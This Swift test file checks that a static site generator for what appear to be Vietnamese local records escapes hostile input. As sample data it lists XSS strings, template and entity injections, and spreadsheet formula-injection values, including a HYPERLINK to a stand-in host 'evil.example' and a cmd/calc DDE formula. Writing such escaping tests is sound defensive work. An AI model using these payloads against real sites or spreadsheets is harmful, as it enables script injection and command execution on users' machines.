import Files
import Testing

@testable import Building

/// Texts in every place where a record takes one. They are shown as they are written, and do nothing: 13 texts in 24 places.
@Suite("Hostile texts in records")
struct HostileTextTests {
  /// What somebody might write, each with a word in it by which it is found.
  static let texts: [String: String] = [
    "a script": "<script>alert('kẻ')</script>",
    "an image that runs": "\"><img src=x onerror=alert('kẻ')>",
    "a handler": "' onmouseover='alert(kẻ)' x='",
    "an end of the title": "</title><script>kẻ</script>",
    "an end of a script": "</script><script>kẻ</script>",
    "an end of a style": "</style><style>* { color: kẻ }",
    "a comment": "--><!-- kẻ --!><x-evil>",
    "CDATA": "]]><x-evil>kẻ</x-evil><![CDATA[",
    "template syntax": "{{page.title}}{{{kẻ}}}{{>layout}}{{=<% %>=}}{{#page}}",
    "entities": "&lt;script&gt;kẻ&#60;script&#62;&amp;",
    "a formula": "=HYPERLINK(\"https://evil.example/\"&A1,\"kẻ\")",
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0 kẻ",
    "quotes and backslashes": "\\\" \\u003cscript\\u003e ${kẻ} `kẻ`",
  ]

  /// Places of a record, each as lines of front matter around the text.
  static let places: [String: @Sendable (String) -> String] = [
    "title": { "title: \($0)" },
    "summary": { "summary: \($0)" },
    "venue": { "venue: \($0)" },
    "points": { "mode: online\npoints: [\($0)]" },
    "chair's name": { "chairs: [{name: \($0), office: a}]" },
    "chair's office": { "chairs: [{name: a, office: \($0)}]" },
    "participant": { "participants: [{name: \($0), role: speaker}]" },
    "leader as printed": { "leadership: [{year: 2021, leader: dong-son, as-printed: \($0)}]" },
    "leader's note": { "leadership: [{year: 2021, leader: dong-son, note: \($0)}]" },
    "decision": { "leadership: [{year: 2021, leader: dong-son, decision: \($0)}]" },
    "award's title": { "awards: [{award: other, title: \($0), to: [dong-son]}]" },
    "award's giver": { "awards: [{award: co, to: [dong-son], by: \($0)}]" },
    "awarded person": { "awards: [{award: co, persons: [{name: \($0), office: a}]}]" },
    "grade": { "results: {ranking: [{unit: dong-son, score: 9, grade: \($0)}]}" },
    "reason": { "excluded: [{unit: dong-son, reason: \($0)}]" },
    "movement": { "movements: [{name: \($0)}]" },
    "indicator": { "indicators: [{name: \($0), value: 26, measure: a}]" },
    "measure": { "indicators: [{name: a, value: 26, measure: \($0)}]" },
    "handover": { "handovers: [{what: \($0), from: dong-son, to: tay-thuong}]" },
    "document": { "documents: [{number: 1, title: \($0)}]" },
    "caption": { "photos: [{caption: \($0)}]" },
    "source": { "sources: [{publisher: \($0), title: \($0), author: \($0)}]" },
    "correction": { "corrections: [{date: 2021-01-05, field: title, from: \($0), to: a, reason: \($0)}]" },
    "date's note": { "date: {value: 2020-12-03, note: \($0)}" },
  ]

  struct Case: Sendable, CustomTestStringConvertible {
    let text: String
    let place: String
    var testDescription: String { "\(text) as \(place)" }
  }

  static let cases = texts.keys.sorted().flatMap { text in places.keys.sorted().map { Case(text: text, place: $0) } }

  /// One site for each text: a record for each place.
  static func built(_ name: String) async throws -> HostilePages {
    let site = try HostileSite()
    let text = quoted(texts[name] ?? "")
    for (number, place) in places.keys.sorted().enumerated() {
      var lines = ["title: Bản tin \(number)", "date: 2020-12-03", "kind: [other]", "cluster: an-binh/huyen-thi"]
      for line in (places[place]?(text) ?? "").split(separator: "\n") {
        let key = line.prefix { $0 != ":" } + ":"
        lines.removeAll { $0.hasPrefix(key) }
        lines.append(String(line))
      }
      try site.folder.write(
        "---\n" + lines.joined(separator: "\n") + "\nslug: noi-\(number)\n---\n\nNội dung.\n",
        to: "content/records/\(number).md")
    }
    return try await site.built()
  }

  private static func quoted(_ text: String) -> String {
    "\"" + text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\""
  }

  private static let sites = Sites()

  /// Builds each site once for all its cases.
  private actor Sites {
    private var building: [String: Task<HostilePages, any Error>] = [:]

    func built(_ name: String) async throws -> HostilePages {
      let task = building[name] ?? Task { try await HostileTextTests.built(name) }
      building[name] = task
      return try await task.value
    }
  }

  @Test("A text is shown as it is written", arguments: cases)
  func shown(_ hostile: Case) async throws {
    let site = try await Self.sites.built(hostile.text)
    let number = try #require(Self.places.keys.sorted().firstIndex(of: hostile.place))
    let page = site.text("ban-tin/2020/noi-\(number).html")
    let text = try #require(Self.texts[hostile.text])
    #expect(VisibleText(page).contains(text) || page.contains("name=\"description\""))
    if hostile.place != "date's note", hostile.place != "correction" { #expect(VisibleText(page).contains(text)) }
    #expect(Markup(page).mismatch == nil)
  }

  @Test("No page of the site does anything that its templates do not", arguments: texts.keys.sorted())
  func harmless(_ name: String) async throws {
    #expect(try await Self.sites.built(name).harm == [])
  }

  @Test("No cell of a table for spreadsheets is a formula", arguments: ["a formula", "another formula"])
  func formulas(_ name: String) async throws {
    let site = try await Self.sites.built(name)
    let tables = site.files.keys.filter { $0.hasSuffix(".csv") }.sorted()
    #expect(!tables.isEmpty)
    for table in tables {
      for cell in site.text(table).split(whereSeparator: { $0 == "," || $0.isNewline }) {
        let text = cell.drop { $0 == "\"" || $0 == "\u{FEFF}" }
        #expect(text.first.map { !"=@".contains($0) } ?? true, "\(table): \(cell)")
      }
    }
  }
}
